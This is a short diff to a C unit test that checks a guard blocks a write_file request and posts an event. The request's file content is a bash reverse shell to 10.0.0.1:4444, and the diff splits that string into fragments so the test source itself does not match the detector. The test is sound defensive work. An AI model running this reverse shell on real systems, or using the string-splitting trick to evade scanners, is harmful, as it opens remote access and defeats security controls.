@@ -528,7 +528,9 @@ static void test_guard_blocks_and_posts_event(void **state)
 {
 	fx *f = *state;
 	json_t *o = json_pack("{s:s, s:s, s:s, s:s}", "id", "1", "op", "write_file", "path",
-			      "x.sh", "content", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
+			      "x.sh", "content",
+			      /* split so that this source file is not itself a hit */
+			      "bash -" "i >& /de" "v/tcp/10.0.0.1/4444 0>&1\n");
 	cof_lfs_rules rules = {.mode = COF_MODE_STANDARD,
 			       .hooks = {.event = hook_event, .ud = f}};
 	cof_err e = {0};
